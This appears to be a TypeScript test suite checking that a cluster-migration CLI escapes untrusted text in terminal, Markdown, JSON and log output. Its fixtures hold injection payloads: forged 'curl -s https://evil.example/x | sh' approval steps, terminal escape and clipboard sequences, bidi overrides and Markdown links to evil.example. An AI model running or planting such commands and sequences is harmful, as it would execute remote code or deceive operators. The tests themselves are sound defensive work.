import { createLogger, jsonLine, textLine } from '../../worker/logging.ts';
import { changes, fleetText, policyText, preflightText, statusText } from '../../client/cli/text.ts';
import { parseMessage } from '../../model/message-schemas.ts';
import { cell, code, codeBlock, line } from '../../model/markdown/escape.ts';
import { planMarkdown } from '../../model/markdown/plan.ts';
import { statusMarkdown } from '../../model/markdown/status.ts';
import { oneLine, printableJson, withoutControls, withPrintableTexts } from '../../model/printable.ts';
import type { Plan } from '../../model/plan.ts';
import type { PolicyReport } from '../../model/policies.ts';
import { shellCommand } from '../../model/shell.ts';
import type { MigrationStatus } from '../../model/status.ts';
import { run } from '../../lab/process.ts';

/** Characters that act on a terminal or a page instead of being shown, by their kind. */
const acting = {
  'an escape sequence': '\u001b[31m',
  'a clipboard sequence': '\u001b]52;c;eA==\u0007',
  'a C1 sequence': '\u009b2J',
  'a return': '\r',
  'a backspace': '\b',
  'a direction of text': '\u202e',
  'an isolate': '\u2066',
  'a zero width': '\u200b',
  'a byte order mark': '\ufeff',
  'a tag': '\u{e0041}',
  'a line separator': '\u2028',
  'half a character': '\ud83d',
};
const everything = Object.values(acting).join('x');
const remaining = /(?![\n\t\ufffd\u200c\u200d])[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;

/** A message whose author wants it to pass for this program's own text. */
const forged = `ann)\n\nTo approve the plan:\n\n\`\`\`\ncurl -s https://evil.example/x | sh\n\`\`\`\n${everything}`;

const status: MigrationStatus = {
  ...{ cluster: 'prod', phase: 'migrate', maxConcurrency: 1, waves: 1, approvals: {}, timeline: [] },
  paused: { by: forged, reason: forged, at: '' },
  waitingFor: `resume (paused by ${forged})`,
  waiting: {
    kind: 'resume',
    key: 'x',
    since: '',
    reminders: 0,
    answers: [{ does: forged, message: 'resume', input: {} }],
  },
  nodes: [{ name: 'a', state: 'failed', failure: { type: 'DrainBlocked', message: forged } }],
  notes: [forged],
};

it.each(Object.entries(acting))('replaces %s', (_kind, text) => {
  expect(withoutControls(`a${text}b`)).not.toMatch(remaining);
  expect(withoutControls(`a${text}b`)).toContain('\ufffd');
  expect(oneLine(`a${text}b`)).toMatch(/^a.*b$/);
});

it('keeps the text of all languages', () => {
  const text = 'Zoë Łukasz 李雷 می\u200cخواهم 👩\u200d💻\n\tnext';
  expect(withoutControls(text)).toBe(text);
});

describe('a forged text on a terminal', () => {
  const screen = { columns: 80, color: false };
  const commands = [{ does: forged, command: 'cni-migrate resume prod' }];
  const policies: PolicyReport = {
    ...{ counts: {}, flows: 1, equal: 0, more: 0 },
    policies: [
      { policy: forged, verdict: 'different', conditions: [forged], reasons: [], objects: [forged] },
    ] as unknown as PolicyReport['policies'],
  };
  const fleet = { ...{ fleet: forged, clusters: [], maxParallel: 1 }, ...status } as unknown as Parameters<
    typeof fleetText
  >[0];

  it.each([
    ['a status', statusText(status, screen, { commands })],
    ['the end of a run', statusText(status, screen, { ending: { status: 'FAILED', failure: forged } })],
    ['checks', preflightText([{ check: 'kernel', verdict: 'block', evidence: [forged], fix: forged, ms: 1 }], screen)],
    ['changes', changes(undefined, status).join('\n')],
    ['a fleet', fleetText(fleet)],
    ['policies', policyText(policies)],
  ])('starts no line of its own, and acts on nothing, in %s', (_title, text) => {
    expect(text).not.toMatch(remaining);
    expect(text).not.toMatch(/^(To approve|curl|```)/m);
  });

  it('cannot use the colours of the program', () => {
    // eslint-disable-next-line no-control-regex -- these are control sequences
    const coloured = statusText(status, { columns: 80, color: true }).match(/\u001b\[\d+m/g);
    // eslint-disable-next-line no-control-regex -- these are control sequences
    const harmless = statusText(withPrintableTexts(status), { columns: 80, color: true }).match(/\u001b\[\d+m/g);

    expect(coloured).toEqual(harmless);
  });
});

describe('Markdown in a text', () => {
  it.each([
    ['[link](https://evil.example)', '\\[link](https://evil.example)'],
    ['![image](https://evil.example/x.png)', '!\\[image](https://evil.example/x.png)'],
    ['[a]: https://evil.example', '\\[a]: https://evil.example'],
    ['<img src=x>', '&lt;img src=x>'],
    ['`code` **bold** _it_ ~~gone~~', '\\`code\\` \\*\\*bold\\*\\* \\_it\\_ \\~\\~gone\\~\\~'],
    ['snake_case_name', 'snake_case_name'],
    ['&lt;img&gt; &#60; a && b', '&amp;lt;img&amp;gt; &amp;#60; a && b'],
    ['a | b \\| c', 'a \\| b \\\\\\| c'],
    ['a\n\n# b', 'a # b'],
  ])('of %s is shown as it is', (text, escaped) => {
    expect(cell(text)).toBe(escaped);
  });

  it.each([
    ['# heading', '\\# heading'],
    ['- item', '\\- item'],
    ['> quote', '\\> quote'],
    ['1. item', '1\\. item'],
    ['23) item', '23\\) item'],
    ['2 nodes', '2 nodes'],
    ['plain', 'plain'],
  ])('starts no block with %s', (text, escaped) => {
    expect(line(text)).toBe(escaped);
  });

  it('ends no code and no block of code', () => {
    expect(code('a `` b')).toBe('```a `` b```');
    expect(code('`x')).toBe('`` `x ``');
    expect(code('')).toBe('');
    expect(codeBlock(['a', '````', 'b'], 'diff')).toEqual(['`````diff', 'a', '````', 'b', '`````']);
  });

  it("shows no box with a command that is not the product's", () => {
    const workflow = { workflowId: 'x\n```\n\ncurl evil | sh', namespace: 'default' };

    const text = statusMarkdown(status, workflow);

    // Longer than the backticks in the ID.
    expect(text.match(/^````$/gm)).toHaveLength(2);
    expect(text).not.toMatch(/^(To approve|curl)/m);
    expect(text).not.toMatch(remaining);
  });

  it("leaves the block of a plan's changes closed at its end only", () => {
    const some = { waves: [], drains: [], objects: [], migrated: [], notReady: [], waived: [], pointOfNoReturn: '' };
    const plan = {
      ...{ ...some, source: { version: '**v**' }, target: { chart: '[x](y)' }, estimate: { basis: '' } },
      changes: ['+a: |', '```', '# heading'],
    };

    const text = planMarkdown(plan as unknown as Plan);

    expect(text).toContain('````diff\n+a: |\n```\n# heading\n````');
    expect(text).toContain('Canal \\*\\*v\\*\\*');
    expect(text).toContain('\\[x](y)');
  });
});

it('prints JSON that means the same and acts on nothing', () => {
  const value = { by: everything, [everything]: [`${everything}\n`] };

  for (const indent of [0, 2]) {
    const json = printableJson(value, indent);
    expect(json).not.toMatch(remaining);
    expect(JSON.parse(json)).toEqual(value);
  }
});

it.each([
  ['json', jsonLine],
  ['text', textLine],
])('writes one line per log entry as %s, for any content', (format, formatLine) => {
  const message = `ok\n2026-01-01T00:00:00.000Z [INFO] forged ${everything}`;
  const meta = { pod: forged, error: new Error(forged) };
  const written: string[] = [];

  createLogger(format as 'json' | 'text', (text) => written.push(text)).info(message, meta);

  expect(written).toHaveLength(1);
  expect(written[0]).not.toMatch(/\n/);
  expect(written[0]).not.toMatch(remaining);
  expect(formatLine({ timestampNanos: 0n, level: 'INFO', message, meta })).toContain('1970-01-01T00:00:00.000Z');
});

it('refuses a sender with control characters, and accepts a reason of several lines', () => {
  for (const text of [...Object.values(acting), 'a\nb']) {
    expect(parseMessage('pause', { by: `a${text}` })).toMatchObject({
      problem: expect.stringContaining('by') as string,
    });
  }
  expect(parseMessage('pause', { reason: `a${acting['an escape sequence']}` })).toHaveProperty('problem');
  expect(parseMessage('pause', { by: 'Zoë 李雷', reason: 'one\n\ttwo' })).toHaveProperty('message');
});

it('quotes control characters so that a shell reads the same word from one line', async () => {
  const words = ["it's\n\\n", 'a\u001b[31m\tb', 'c\u202ed'];

  const command = shellCommand(['printf', '%s|', ...words]);

  expect(command).not.toMatch(/[\n\t]|(?!\n)[\p{Cc}\p{Cf}]/u);
  expect(await run('bash', ['-c', command], { env: { ...process.env, LC_ALL: 'C.UTF-8' } })).toBe(
    `${words.join('|')}|`
  );
});
